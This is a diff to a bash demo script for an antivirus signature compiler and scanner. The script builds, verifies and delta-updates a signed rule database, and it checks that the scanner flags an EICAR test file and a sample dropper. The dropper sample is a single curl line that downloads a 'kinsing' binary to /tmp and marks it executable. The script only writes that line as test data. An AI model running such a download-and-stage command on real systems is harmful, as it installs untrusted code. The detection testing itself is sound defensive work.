@@ -1,12 +1,15 @@
 #!/usr/bin/env bash
 # The main job, end to end on embedded defaults: lint rules-src/, build a signed database with a
-# throwaway key, verify it, print its summary, then add a rule, rebuild, and ship the change as a
-# delta that must rebuild the new database byte for byte. Everything lands in target/demo/.
+# throwaway key, verify it, print its summary, scan sample files with it (EICAR and a webshell
+# must be found, the allowlisted fixture and a clean script must not), then add a rule, rebuild,
+# ship the change as a delta that must rebuild the new database byte for byte, and scan again.
+# Everything lands in target/demo/.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 
-cargo build --release --locked -p vigil-compiler
+cargo build --release --locked -p vigil-compiler -p vigil-scan-core
 bin=target/release/vigil-build
+scan=target/release/vigil-scan
 work=target/demo
 rm -rf "$work"
 mkdir -p "$work"
@@ -23,6 +26,17 @@ echo "== build version 1"
 "$bin" build --rules rules-src --key "$work/keys/vigil.key" --version 1 -o "$work/vigil-1.vdb"
 "$bin" verify --pubkey "$work/keys/vigil.pub" "$work/vigil-1.vdb"
 "$bin" info "$work/vigil-1.vdb"
+
+echo "== scan samples/ and EICAR with version 1"
+# EICAR is written here rather than committed, so no antivirus flags the repository.
+printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$work/eicar.com"
+printf 'curl -s http://203.0.113.9/kinsing -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi\n' > "$work/dropper.sh"
+expect_found() { # vigil-scan exits 1 when it finds something, as clamscan does
+  local rc=0
+  "$scan" "$@" || rc=$?
+  [ "$rc" -eq 1 ] || { echo "expected detections (exit 1), got exit $rc" >&2; exit 1; }
+}
+expect_found -d "$work/vigil-1.vdb" --pubkey "$work/keys/vigil.pub" -r samples "$work/eicar.com" "$work/dropper.sh"
 
 echo "== add a rule, build version 2, ship it as a delta"
 cp -r rules-src "$work/rules-v2"
@@ -49,4 +63,6 @@ RULE
 "$bin" apply "$work/vigil-1.vdb" "$work/1-to-2.vdelta" -o "$work/vigil-2.applied.vdb"
 cmp "$work/vigil-2.vdb" "$work/vigil-2.applied.vdb"
 "$bin" verify --pubkey "$work/keys/vigil.pub" "$work/vigil-2.applied.vdb"
+echo "== scan again with version 2: the new rule finds the dropper"
+expect_found -d "$work/vigil-2.applied.vdb" --pubkey "$work/keys/vigil.pub" --json --no-summary "$work/dropper.sh"
 echo "demo OK: delta $(wc -c < "$work/1-to-2.vdelta") bytes for a $(wc -c < "$work/vigil-2.vdb")-byte database"
